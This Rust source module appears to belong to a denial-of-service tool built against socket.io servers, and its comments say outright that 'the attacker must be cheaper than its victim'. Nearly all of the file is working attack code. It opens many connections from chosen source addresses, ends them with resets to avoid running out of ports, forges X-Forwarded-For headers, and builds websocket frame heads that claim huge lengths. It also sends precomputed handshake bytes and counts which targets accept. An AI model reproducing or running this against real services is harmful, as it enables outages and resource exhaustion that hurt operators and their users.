//! HTTP and websocket as bytes, made once and sent often: the attacker must be cheaper than its victim.

use std::io;
use std::net::{Ipv4Addr, SocketAddr};
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::timeout;

use super::tally::{Tally, count};

/// Longer than any server that is worth attacking takes for an answer.
const ANSWER_MAX: Duration = Duration::from_secs(5);
/// No answer to a handshake is longer.
const HEAD_MAX: usize = 16 * 1024;

/// Connects from an address; the end of the connection is a reset, which leaves no port behind in TIME_WAIT.
pub async fn dial(target: SocketAddr, source: Ipv4Addr) -> io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.set_reuseaddr(true)?;
    socket.bind(SocketAddr::from((source, 0)))?;
    socket.set_zero_linger()?;
    socket.connect(target).await
}

/// The head of a websocket handshake.
pub fn websocket(target: SocketAddr, forwarded: Option<Ipv4Addr>) -> String {
    head("GET", "websocket", None, target, forwarded)
        + "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n\
           Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
}

/// The head of a polling handshake.
pub fn polling(target: SocketAddr, forwarded: Option<Ipv4Addr>) -> String {
    head("GET", "polling", None, target, forwarded) + "\r\n"
}

/// The head of a polling body of that length.
pub fn post(target: SocketAddr, sid: &str, length: usize) -> String {
    head("POST", "polling", Some(sid), target, None)
        + &format!("Content-Type: text/plain;charset=UTF-8\r\nContent-Length: {length}\r\n\r\n")
}

fn head(method: &str, transport: &str, sid: Option<&str>, target: SocketAddr, forwarded: Option<Ipv4Addr>) -> String {
    let sid = sid.map_or_else(String::new, |sid| format!("&sid={sid}"));
    let forwarded = forwarded.map_or_else(String::new, |address| format!("X-Forwarded-For: {address}\r\n"));
    format!("{method} /socket.io/?EIO=4&transport={transport}{sid} HTTP/1.1\r\nHost: {target}\r\n{forwarded}")
}

/// A connection whose request was answered, and what came behind the head.
pub struct Opened {
    /// The connection.
    pub stream: TcpStream,
    /// Already read.
    pub rest: Vec<u8>,
}

/// Connects, sends a request, reads and counts the answer; a connection only where the door is open.
pub async fn open(target: SocketAddr, source: Ipv4Addr, request: &str, tally: &Tally) -> Option<Opened> {
    count(&tally.tries);
    let exchange = async {
        let mut stream = dial(target, source).await?;
        stream.write_all(request.as_bytes()).await?;
        let (status, rest) = read_answer(&mut stream).await?;
        Ok::<_, io::Error>((status, Opened { stream, rest }))
    };
    let answer = timeout(ANSWER_MAX, exchange).await;
    let answer = answer.unwrap_or_else(|_| Err(io::ErrorKind::TimedOut.into()));
    if answer.is_err() {
        // Without ports or descriptors the loop would spin without letting others go on.
        tokio::task::yield_now().await;
    }
    let is_open = tally.answered(answer.as_ref().ok().map(|(status, _)| *status));
    answer.ok().filter(|_| is_open).map(|(_, opened)| opened)
}

/// Status of an answer, and what came behind its head.
pub async fn read_answer(stream: &mut TcpStream) -> io::Result<(u16, Vec<u8>)> {
    let mut received = Vec::with_capacity(512);
    let end = loop {
        if let Some(at) = received.windows(4).position(|window| window == b"\r\n\r\n") {
            break at + 4;
        }
        if received.len() > HEAD_MAX || stream.read_buf(&mut received).await? == 0 {
            return Err(io::ErrorKind::InvalidData.into());
        }
    };
    let status = received.get(9..12).and_then(|digits| std::str::from_utf8(digits).ok());
    let status = status.and_then(|digits| digits.parse().ok());
    let status = status.ok_or(io::ErrorKind::InvalidData)?;
    Ok((status, received.split_off(end)))
}

/// A websocket text frame as clients send it; a mask of zeros leaves the text as it is.
pub fn text_frame(text: &str) -> Vec<u8> {
    let mut frame = frame_head(text.len() as u64);
    frame.extend_from_slice(text.as_bytes());
    frame
}

/// The head of a text frame that claims this length.
pub fn frame_head(length: u64) -> Vec<u8> {
    let mut head = vec![0x81];
    match length {
        0..=125 => head.push(0x80 | length as u8),
        126..=0xFFFF => {
            head.push(0x80 | 126);
            head.extend_from_slice(&(length as u16).to_be_bytes());
        }
        _ => {
            head.push(0x80 | 127);
            head.extend_from_slice(&length.to_be_bytes());
        }
    }
    head.extend_from_slice(&[0; 4]);
    head
}

/// Waits until the received bytes hold one of the two marks; which of them.
pub async fn wait_for(opened: &mut Opened, good: &str, bad: &str) -> bool {
    let look = |bytes: &[u8], mark: &str| bytes.windows(mark.len()).any(|window| window == mark.as_bytes());
    let waiting = async {
        loop {
            if look(&opened.rest, good) {
                return true;
            }
            let read = opened.stream.read_buf(&mut opened.rest).await;
            if look(&opened.rest, bad) || opened.rest.len() > HEAD_MAX || !matches!(read, Ok(1..)) {
                return look(&opened.rest, good);
            }
        }
    };
    timeout(ANSWER_MAX, waiting).await.unwrap_or(false)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_claim_their_length_in_every_size() {
        assert_eq!(text_frame("2"), [0x81, 0x81, 0, 0, 0, 0, b'2']);
        assert_eq!(frame_head(300)[..4], [0x81, 0xFE, 1, 44]);
        assert_eq!(frame_head(70_000)[..10], [0x81, 0xFF, 0, 0, 0, 0, 0, 1, 0x11, 0x70]);
    }
}
